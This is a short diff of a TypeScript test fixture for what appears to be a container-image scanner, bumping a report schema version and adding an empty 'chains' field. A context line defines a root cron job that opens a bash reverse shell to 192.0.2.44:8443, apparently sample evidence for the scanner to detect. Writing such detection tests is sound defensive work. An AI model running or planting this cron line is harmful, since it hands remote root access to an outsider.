@@ -17,7 +17,7 @@ const scriptWhere = { layer, path: '/run.sh', line: 4, history };
 const job = '* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1';
 
 const sample: ImageReport = {
-  schemaVersion: '1.0',
+  schemaVersion: '1.1',
   tool: { name: 'tidewaiter', version: '0.0.0-test', engine: 'test' },
   image: {
     reference: 'registry.example/someone/tomcat11:latest',
@@ -92,6 +92,7 @@ const sample: ImageReport = {
       evidence: [],
     },
   ],
+  chains: [],
   story: {
     starts: [
       {
